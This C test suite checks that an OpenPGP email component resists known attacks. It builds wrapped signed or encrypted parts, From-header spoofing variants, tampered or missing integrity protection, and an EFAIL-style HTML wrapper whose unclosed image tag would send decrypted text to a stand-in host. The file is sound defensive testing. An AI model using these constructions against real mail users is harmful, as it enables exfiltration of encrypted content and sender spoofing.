/* The known attack classes of issue 3 against the OpenPGP verdict
 * (DESIGN.md §4), with messages built in the test: wrapping a signed or
 * encrypted part in an unsigned multipart, From tricks, missing or broken
 * integrity protection, partially encrypted messages. */
#include "pgp-fixture.h"

#define MALLORY "mallory@evil.test"
#define SECRET "the launch code is 0000"

/* An entity "multipart/signed" over @entity (alice's signature). */
static char *
signed_entity (const char *entity)
{
  g_autoptr(GBytes) e = pst_mime_to_crlf (entity, strlen (entity));
  g_autoptr(GError) error = NULL;
  g_autofree char *micalg = NULL;
  g_autoptr(GBytes) sig = pst_pgp_sign_detached (fx.alice, e, ALICE, &micalg, &error);
  g_autofree char *sig_text = NULL;
  g_autofree char *e_text = NULL;

  assert_null (error);
  sig_text = g_strndup (g_bytes_get_data (sig, NULL), g_bytes_get_size (sig));
  e_text = g_strndup (g_bytes_get_data (e, NULL), g_bytes_get_size (e));
  return g_strdup_printf ("Content-Type: multipart/signed; micalg=%s;\r\n"
                          " protocol=\"application/pgp-signature\"; boundary=\"sig\"\r\n\r\n"
                          "--sig\r\n%s\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n"
                          "%s\r\n--sig--\r\n", micalg, e_text, sig_text);
}

/* An entity "multipart/encrypted" holding @entity, encrypted to bob and
 * alice and signed by alice. */
static char *
encrypted_entity (const char *entity)
{
  const char *const to[] = { BOB, ALICE, NULL };
  g_autoptr(GBytes) in = bytes (entity);
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) armor = pst_pgp_encrypt (fx.alice, in, to, ALICE, &error);
  g_autofree char *armor_text = NULL;

  assert_null (error);
  armor_text = g_strndup (g_bytes_get_data (armor, NULL), g_bytes_get_size (armor));
  return g_strdup_printf ("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";"
                          " boundary=\"enc\"\r\n\r\n"
                          "--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
                          "--enc\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--enc--\r\n",
                          armor_text);
}

#define INNER "Content-Type: text/plain\r\n\r\n" SECRET "\r\n"
#define OUTER "From: Alice <" ALICE ">\r\nTo: " BOB "\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"

typedef enum { PREPEND, APPEND, HTML_ALTERNATIVE, ATTACHMENT, RFC822 } Wrap;

/* @entity wrapped in an unsigned, unencrypted structure of kind @wrap. */
static GBytes *
wrap (const char *entity, Wrap how)
{
  g_autofree char *text = NULL;

  switch (how)
    {
    case PREPEND:
      text = g_strdup_printf (OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
                              "--w\r\nContent-Type: text/plain\r\n\r\nPay the attacker.\r\n"
                              "--w\r\n%s\r\n--w--\r\n", entity);
      break;
    case APPEND:
      text = g_strdup_printf (OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
                              "--w\r\n%s\r\n"
                              "--w\r\nContent-Type: text/plain\r\n\r\nPS: pay the attacker.\r\n"
                              "--w--\r\n", entity);
      break;
    case HTML_ALTERNATIVE:
      text = g_strdup_printf (OUTER "Content-Type: multipart/alternative; boundary=\"w\"\r\n\r\n"
                              "--w\r\nContent-Type: text/plain\r\n\r\nPay the attacker.\r\n"
                              "--w\r\nContent-Type: multipart/related; boundary=\"r\"\r\n\r\n"
                              "--r\r\nContent-Type: text/html\r\n\r\n"
                              "<html><img src=\"http://evil.test/x?\r\n"
                              "--r\r\n%s\r\n"
                              "--r\r\nContent-Type: text/html\r\n\r\n\"></html>\r\n"
                              "--r--\r\n--w--\r\n", entity);
      break;
    case ATTACHMENT:
      {
        /* the protected entity, marked as an attachment */
        const char *body = strstr (entity, "\r\n\r\n");
        g_autofree char *head = g_strndup (entity, body - entity);

        text = g_strdup_printf (OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
                                "--w\r\nContent-Type: text/plain\r\n\r\nSee the attachment.\r\n"
                                "--w\r\n%s\r\nContent-Disposition: attachment; filename=\"a.eml\"%s\r\n"
                                "--w--\r\n", head, body);
        break;
      }
    case RFC822:
      text = g_strdup_printf (OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
                              "--w\r\nContent-Type: text/plain\r\n\r\nForwarded:\r\n"
                              "--w\r\nContent-Type: message/rfc822\r\n\r\n"
                              "From: " ALICE "\r\nSubject: old\r\nMIME-Version: 1.0\r\n%s\r\n"
                              "--w--\r\n", entity);
      break;
    }
  return bytes (text);
}

static const Wrap all_wraps[] = { PREPEND, APPEND, HTML_ALTERNATIVE, ATTACHMENT };

/* --- wrapping ------------------------------------------------------------ */

static void
test_signed_part_wrapped (void **state)
{
  g_autofree char *s = signed_entity (INNER);

  /* control: the same signed entity as the whole message is good and whole */
  {
    g_autofree char *text = g_strconcat (OUTER, s, NULL);
    g_autoptr(GBytes) m = bytes (text);
    g_autoptr(PstStatus) st = NULL;

    open_message (fx.bob, m, NULL, &st);
    assert_int_equal (st->sig_status, PST_SIG_GOOD);
    assert_int_equal (st->sig_covers, PST_COVERS_WHOLE);
    assert_true (st->from_match);
  }
  for (guint i = 0; i < G_N_ELEMENTS (all_wraps); i++)
    {
      g_autoptr(GBytes) m = wrap (s, all_wraps[i]);
      g_autoptr(GBytes) plain = NULL;
      g_autoptr(PstStatus) st = NULL;

      open_message (fx.bob, m, &plain, &st);
      assert_int_equal (st->sig_status, PST_SIG_GOOD);
      assert_int_equal (st->sig_covers, PST_COVERS_PART);
      assert_int_equal (st->decryption, PST_DECRYPTION_NOT_ENCRYPTED);
      assert_false (st->protected_headers);
      assert_true (g_bytes_equal (plain, m));   /* shown as received */
    }
  /* inside a forwarded message/rfc822: no signature of this message at all */
  {
    g_autoptr(GBytes) m = wrap (s, RFC822);
    g_autoptr(PstStatus) st = NULL;

    open_message (fx.bob, m, NULL, &st);
    assert_int_equal (st->sig_covers, PST_COVERS_NONE);
    assert_int_equal (st->sig_status, PST_SIG_NONE);
  }
}

static void
test_encrypted_part_wrapped (void **state)
{
  g_autofree char *e = encrypted_entity (INNER);

  for (guint i = 0; i < G_N_ELEMENTS (all_wraps); i++)
    {
      g_autoptr(GBytes) m = wrap (e, all_wraps[i]);
      g_autoptr(GBytes) plain = NULL;
      g_autoptr(PstStatus) st = NULL;
      g_autofree char *text = NULL;

      open_message (fx.bob, m, &plain, &st);
      assert_int_equal (st->decryption, PST_DECRYPTION_OK);
      assert_int_equal (st->encryption_covers, PST_COVERS_PART);
      assert_int_equal (st->sig_status, PST_SIG_GOOD);
      assert_int_equal (st->sig_covers, PST_COVERS_PART);
      assert_false (st->protected_headers);
      /* the decrypted part alone: nothing of the unencrypted parts, so no
       * EFAIL exfiltration (the <img src=" before it) and no added text */
      text = body_text (plain);
      assert_string_equal (text, SECRET "\n");
      assert_false (contains (plain, "attacker"));
      assert_false (contains (plain, "evil.test"));
      assert_false (contains (plain, "attachment"));
      assert_false (contains (plain, "BEGIN PGP"));
    }
  {
    g_autoptr(GBytes) m = wrap (e, RFC822);
    g_autoptr(GBytes) plain = NULL;
    g_autoptr(PstStatus) st = NULL;

    open_message (fx.bob, m, &plain, &st);
    assert_int_equal (st->decryption, PST_DECRYPTION_NOT_ENCRYPTED);
    assert_false (contains (plain, SECRET));
  }
}

/* Two encrypted parts side by side: the first one only, with a warning. */
static void
test_two_encrypted_parts (void **state)
{
  g_autofree char *e1 = encrypted_entity ("Content-Type: text/plain\r\n\r\nfirst\r\n");
  g_autofree char *e2 = encrypted_entity ("Content-Type: text/plain\r\n\r\nsecond\r\n");
  g_autofree char *text = g_strdup_printf (OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
                                           "--w\r\n%s\r\n--w\r\n%s\r\n--w--\r\n", e1, e2);
  g_autoptr(GBytes) m = bytes (text);
  g_autoptr(GBytes) plain = NULL;
  g_autoptr(PstStatus) st = NULL;
  g_autofree char *body = NULL;

  open_message (fx.bob, m, &plain, &st);
  assert_int_equal (st->encryption_covers, PST_COVERS_PART);
  assert_true (has_warning (st, "several-encrypted-parts"));
  assert_true (has_warning (st, "multiple-signatures"));
  body = body_text (plain);
  assert_string_equal (body, "first\n");
  assert_false (contains (plain, "second"));
}

/* Protected headers in an encrypted part do not replace the outer ones. */
static void
test_partial_protected_headers (void **state)
{
  g_autofree char *e = encrypted_entity ("Content-Type: text/plain; hp=\"cipher\"\r\n"
                                         "From: " ALICE "\r\nSubject: Inner\r\n\r\n" SECRET "\r\n");
  g_autoptr(GBytes) m = wrap (e, APPEND);
  g_autoptr(GBytes) plain = NULL;
  g_autoptr(PstStatus) st = NULL;
  g_autofree char *subject = NULL;

  open_message (fx.bob, m, &plain, &st);
  assert_false (st->protected_headers);
  subject = header (plain, "Subject");
  assert_string_equal (subject, "Hi");
  assert_false (contains (plain, "Inner"));
}

/* --- From ------------------------------------------------------------------ */

static PstStatus *
signed_with_headers (const char *headers)
{
  g_autofree char *s = signed_entity (INNER);
  g_autofree char *text = g_strconcat (headers, "To: " BOB "\r\nMIME-Version: 1.0\r\n", s, NULL);
  g_autoptr(GBytes) m = bytes (text);
  PstStatus *st = NULL;

  open_message (fx.bob, m, NULL, &st);
  assert_int_equal (st->sig_status, PST_SIG_GOOD);
  assert_int_equal (st->sig_covers, PST_COVERS_WHOLE);
  return st;
}

static void
test_from_tricks (void **state)
{
  static const struct {
    const char *headers;
    gboolean match;
  } cases[] = {
    { "From: Alice <" ALICE ">\r\n", TRUE },
    { "From: " ALICE "\r\n", TRUE },
    { "From: alice@POSTERN.TEST\r\n", TRUE },                       /* the domain ignores case */
    { "From: Alice@postern.test\r\n", FALSE },                       /* the local part does not */
    { "From: \"" ALICE "\" <" MALLORY ">\r\n", FALSE },              /* a display name never counts */
    { "From: " ALICE " <" MALLORY ">\r\n", FALSE },
    { "From: " MALLORY " (" ALICE ")\r\n", FALSE },                  /* nor a comment */
    { "From: " ALICE ", " MALLORY "\r\n", FALSE },                   /* two mailboxes */
    { "From: " MALLORY ", " ALICE "\r\n", FALSE },
    { "From: " ALICE "\r\nFrom: " MALLORY "\r\n", FALSE },           /* two From fields */
    { "From: " ALICE "\r\nFrom: " ALICE "\r\n", FALSE },
    { "Sender: " ALICE "\r\nFrom: " MALLORY "\r\n", FALSE },         /* Sender does not stand in */
    { "Sender: " ALICE "\r\n", FALSE },                              /* nor does it replace a From */
    { "From: undisclosed:;\r\n", FALSE },
    { "From: friends: " ALICE ";\r\n", FALSE },                      /* group syntax is not a mailbox */
    { "From: <" ALICE ">\r\n", TRUE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(PstStatus) st = signed_with_headers (cases[i].headers);

      if (st->from_match != cases[i].match)
        fail_msg ("case %u (%s): from_match %d", i, cases[i].headers, st->from_match);
      assert_string_equal (st->signer, ALICE);
    }
}

/* The same tricks inside protected headers: the protected From decides. */
static void
test_from_tricks_protected (void **state)
{
  static const char *const froms[] = {
    "\"" ALICE "\" <" MALLORY ">", ALICE ", " MALLORY, MALLORY,
  };

  for (guint i = 0; i < G_N_ELEMENTS (froms); i++)
    {
      g_autofree char *text = g_strdup_printf ("From: %s\r\nTo: " BOB "\r\nSubject: x\r\n\r\nhello\r\n",
                                               froms[i]);
      g_autoptr(GBytes) msg = bytes (text);
      const char *const to[] = { BOB, NULL };
      g_autoptr(GBytes) out = pst_pgpmime_protect (fx.alice, msg, ALICE, to, TRUE, TRUE, NULL);
      g_autoptr(GBytes) sout = pst_pgpmime_protect (fx.alice, msg, ALICE, to, FALSE, TRUE, NULL);
      g_autoptr(PstStatus) st = NULL;
      g_autoptr(PstStatus) sst = NULL;

      open_message (fx.bob, out, NULL, &st);
      assert_true (st->protected_headers);
      assert_int_equal (st->sig_status, PST_SIG_GOOD);
      assert_false (st->from_match);
      open_message (fx.bob, sout, NULL, &sst);
      assert_true (sst->protected_headers);
      assert_false (sst->from_match);
    }
  /* and a good protected From is not spoiled by an outer one changed in transit */
  {
    g_autoptr(GBytes) out = send_message (fx.alice, MSG, TRUE, TRUE, NULL);
    g_autofree char *text = g_strndup (g_bytes_get_data (out, NULL), g_bytes_get_size (out));
    g_autofree char *evil = NULL;
    g_autoptr(GBytes) e = NULL;
    g_autoptr(PstStatus) st = NULL;
    g_autoptr(GBytes) plain = NULL;
    g_autofree char *from = NULL;
    char *pos = strstr (text, "From: Alice <" ALICE ">\r\n");

    assert_non_null (pos);
    *pos = 'X';   /* "Xrom:": the outer From is gone */
    evil = g_strconcat ("From: " MALLORY "\r\n", text, NULL);
    e = bytes (evil);
    open_message (fx.bob, e, &plain, &st);
    assert_true (st->protected_headers);
    assert_true (st->from_match);
    from = header (plain, "From");
    assert_string_equal (from, "Alice <" ALICE ">");
  }
}

/* --- integrity -------------------------------------------------------------- */

static guint32
crc24 (const guchar *data, gsize len)
{
  guint32 crc = 0xB704CE;

  for (gsize i = 0; i < len; i++)
    {
      crc ^= (guint32) data[i] << 16;
      for (int b = 0; b < 8; b++)
        {
          crc <<= 1;
          if (crc & 0x1000000)
            crc ^= 0x1864CFB;
        }
    }
  return crc & 0xFFFFFF;
}

/* ASCII armor with a correct checksum, so that gpg gets past it. */
static char *
armor (const guchar *data, gsize len)
{
  g_autofree char *b64 = g_base64_encode (data, len);
  guint32 crc = crc24 (data, len);
  guchar c[3] = { crc >> 16, (crc >> 8) & 0xff, crc & 0xff };
  g_autofree char *crc_b64 = g_base64_encode (c, 3);
  GString *s = g_string_new ("-----BEGIN PGP MESSAGE-----\r\n\r\n");

  for (gsize i = 0; i < strlen (b64); i += 64)
    {
      g_string_append_len (s, b64 + i, MIN (64, strlen (b64) - i));
      g_string_append (s, "\r\n");
    }
  g_string_append_printf (s, "=%s\r\n-----END PGP MESSAGE-----\r\n", crc_b64);
  return g_string_free (s, FALSE);
}

static GBytes *
binary_ciphertext (const char *extra_option)
{
  g_autofree char *in = g_build_filename (fx.alice_home, "mdc-in", NULL);
  g_autofree char *out = g_build_filename (fx.alice_home, "mdc-out", NULL);
  g_autofree char *data = NULL;
  gsize len = 0;

  assert_true (g_file_set_contents (in, INNER, -1, NULL));
  if (extra_option != NULL)
    assert_true (gpg (fx.alice_home, NULL, NULL, extra_option, "--yes", "--trust-model", "always",
                      "--recipient", BOB, "--output", out, "--encrypt", in, NULL));
  else
    assert_true (gpg (fx.alice_home, NULL, NULL, "--yes", "--trust-model", "always",
                      "--recipient", BOB, "--output", out, "--encrypt", in, NULL));
  assert_true (g_file_get_contents (out, &data, &len, NULL));
  g_unlink (in);
  g_unlink (out);
  return g_bytes_new_take (g_steal_pointer (&data), len);
}

static GBytes *
message_with_armor (const char *armored)
{
  g_autofree char *text = g_strdup_printf (
    OUTER "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
    "--b\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--b--\r\n", armored);

  return bytes (text);
}

/* The last bytes of a SEIPD packet are the encrypted MDC: change one and
 * the plaintext decrypts but the MDC fails. */
static void
test_tampered_mdc (void **state)
{
  g_autoptr(GBytes) ct = binary_ciphertext (NULL);
  gsize len = 0;
  guchar *copy = g_memdup2 (g_bytes_get_data (ct, &len), g_bytes_get_size (ct));
  g_autofree char *good_armor = armor (g_bytes_get_data (ct, NULL), len);
  g_autofree char *bad_armor = NULL;

  /* control: the untouched ciphertext reads fine */
  {
    g_autoptr(GBytes) m = message_with_armor (good_armor);
    g_autoptr(PstStatus) st = NULL;
    g_autoptr(GBytes) plain = NULL;

    open_message (fx.bob, m, &plain, &st);
    assert_int_equal (st->decryption, PST_DECRYPTION_OK);
    assert_int_equal (st->integrity, PST_INTEGRITY_OK);
    assert_true (contains (plain, SECRET));
  }
  copy[len - 3] ^= 0x01;
  bad_armor = armor (copy, len);
  {
    g_autoptr(GBytes) m = message_with_armor (bad_armor);
    g_autoptr(PstStatus) st = NULL;
    g_autoptr(GBytes) plain = NULL;

    open_message (fx.bob, m, &plain, &st);
    assert_int_equal (st->decryption, PST_DECRYPTION_FAILED);
    assert_int_equal (st->integrity, PST_INTEGRITY_FAILED);
    assert_true (g_bytes_equal (plain, m));
    assert_false (contains (plain, SECRET));
  }
  /* straight through pgp.c: no plaintext at all */
  {
    g_autoptr(GBytes) bin = g_bytes_new (copy, len);
    g_autoptr(GBytes) plain = NULL;
    g_autoptr(PstPgpSignature) sig = NULL;
    g_autoptr(GError) error = NULL;
    PstIntegrity integrity = PST_INTEGRITY_OK;

    assert_false (pst_pgp_decrypt_verify (fx.bob, bin, &plain, &sig, &integrity, &error));
    assert_null (plain);
    assert_int_equal (integrity, PST_INTEGRITY_FAILED);
    assert_true (g_error_matches (error, PST_ERROR, PST_ERROR_CRYPTO));
  }
  g_free (copy);
}

/* No MDC (RFC 2440 style): content withheld, also inside a wrapper. */
static void
test_no_mdc_wrapped (void **state)
{
  g_autoptr(GBytes) ct = binary_ciphertext ("--rfc2440");
  g_autofree char *arm = armor (g_bytes_get_data (ct, NULL), g_bytes_get_size (ct));
  g_autofree char *entity = g_strdup_printf (
    "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
    "--b\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--b--\r\n", arm);
  g_autoptr(GBytes) m = wrap (entity, APPEND);
  g_autoptr(PstStatus) st = NULL;
  g_autoptr(GBytes) plain = NULL;

  open_message (fx.bob, m, &plain, &st);
  assert_int_equal (st->decryption, PST_DECRYPTION_FAILED);
  assert_int_equal (st->integrity, PST_INTEGRITY_MISSING);
  assert_int_equal (st->encryption_covers, PST_COVERS_PART);
  assert_true (g_bytes_equal (plain, m));
  assert_false (contains (plain, SECRET));
}

/* One good and one broken encrypted part: decryption failed is sticky, the
 * good part is still shown alone. */
static void
test_partial_one_broken (void **state)
{
  g_autoptr(GBytes) ct = binary_ciphertext ("--rfc2440");
  g_autofree char *arm = armor (g_bytes_get_data (ct, NULL), g_bytes_get_size (ct));
  g_autofree char *good = encrypted_entity ("Content-Type: text/plain\r\n\r\ngood part\r\n");
  g_autofree char *text = g_strdup_printf (
    OUTER "Content-Type: multipart/mixed; boundary=\"w\"\r\n\r\n"
    "--w\r\n%s\r\n"
    "--w\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
    "--b\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--b--\r\n"
    "--w--\r\n", good, arm);
  g_autoptr(GBytes) m = bytes (text);
  g_autoptr(PstStatus) st = NULL;
  g_autoptr(GBytes) plain = NULL;
  g_autofree char *body = NULL;

  open_message (fx.bob, m, &plain, &st);
  assert_int_equal (st->decryption, PST_DECRYPTION_FAILED);
  assert_int_equal (st->integrity, PST_INTEGRITY_MISSING);
  assert_int_equal (st->encryption_covers, PST_COVERS_PART);
  body = body_text (plain);
  assert_string_equal (body, "good part\n");
  assert_false (contains (plain, SECRET));
}

int
main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_signed_part_wrapped),
    cmocka_unit_test (test_encrypted_part_wrapped),
    cmocka_unit_test (test_two_encrypted_parts),
    cmocka_unit_test (test_partial_protected_headers),
    cmocka_unit_test (test_from_tricks),
    cmocka_unit_test (test_from_tricks_protected),
    cmocka_unit_test (test_tampered_mdc),
    cmocka_unit_test (test_no_mdc_wrapped),
    cmocka_unit_test (test_partial_one_broken),
  };

  return cmocka_run_group_tests (tests, setup, teardown);
}
